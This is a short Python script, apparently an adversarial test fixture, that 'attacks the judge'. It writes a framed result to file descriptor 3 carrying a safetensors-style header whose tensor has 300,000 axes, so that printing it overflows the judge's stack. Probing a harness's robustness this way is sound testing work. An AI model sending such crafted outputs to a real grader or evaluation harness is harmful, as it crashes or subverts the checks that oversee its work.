"""Attacks the judge: a tensor whose shape has so many axes that to print it overflows the stack."""

# %%
import json
import os
import struct

about = {"dtype": "F32", "shape": [1] * 300_000, "data_offsets": [0, 4]}
head = json.dumps({"t": about}, separators=(",", ":")).encode()
DATA = struct.pack("<Q", len(head)) + head + bytes(4)


def chain(paths):
    value = {"tensor": "t"}
    one = {"dict": [["value", value], ["error", None], ["changed", {"tuple": []}]]}
    text = json.dumps(one).encode()
    frame = struct.pack(">II", len(text), len(DATA)) + text + DATA
    while frame:
        frame = frame[os.write(3, frame) :]
    os._exit(0)
